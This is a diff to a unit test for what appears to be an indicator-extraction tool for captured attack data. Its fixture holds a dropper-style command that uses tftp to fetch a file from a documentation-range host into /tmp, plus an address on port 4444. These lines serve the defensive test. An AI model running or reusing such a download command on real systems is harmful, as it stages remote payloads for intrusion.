@@ -330,13 +330,19 @@ test('what rules captured counts', () => {
     tags: [],
     cves: [],
     techniques: [],
-    captures: { url: 'http://192.0.2.6/x', command: 'cd /tmp; tftp -g -r y 192.0.2.2', file: 'z', odd: 'w' },
+    captures: {
+      url: 'http://192.0.2.6/x',
+      command: 'cd /tmp; tftp -g -r y 192.0.2.2',
+      address: '192.0.2.9/4444',
+      file: 'z',
+      odd: 'w',
+    },
   } as const;
   assert.deepEqual(group(extractFacts(factView(''), [hit])), {
     url: ['http://192.0.2.6/x', 'tftp://192.0.2.2/y'],
     command: ['cd /tmp', 'tftp -g -r y 192.0.2.2'],
     file: ['z'],
-    address: ['192.0.2.6', '192.0.2.2'],
+    address: ['192.0.2.6', '192.0.2.2', '192.0.2.9'],
   });
 });
 
